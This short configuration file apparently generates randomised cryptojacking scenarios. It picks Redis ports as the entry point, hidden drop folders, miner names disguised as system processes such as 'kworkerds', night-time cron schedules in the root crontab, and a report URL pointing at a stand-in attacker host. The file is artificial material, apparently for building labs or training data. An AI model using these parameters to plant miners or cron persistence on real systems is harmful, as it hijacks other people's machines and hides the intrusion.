draw PORT 6379 6380 6381
draw FOLDER /var/tmp /tmp /usr/local/share /opt
draw MINER minerd sysupdate kworkerds "$(printf 'x%s' "$SEED" | cut -c1-8)"
draw SCHEDULE '*/5 19-23,0-7 * * *' '*/5 18-23,0-6 * * *' '*/5 19-23 * * *'
letters REPORT 6
number POOL 3333 9999
MINER=$FOLDER/$MINER
TABLE=/var/spool/cron/crontabs/root
URL=http://$ATTACKER/api/$REPORT
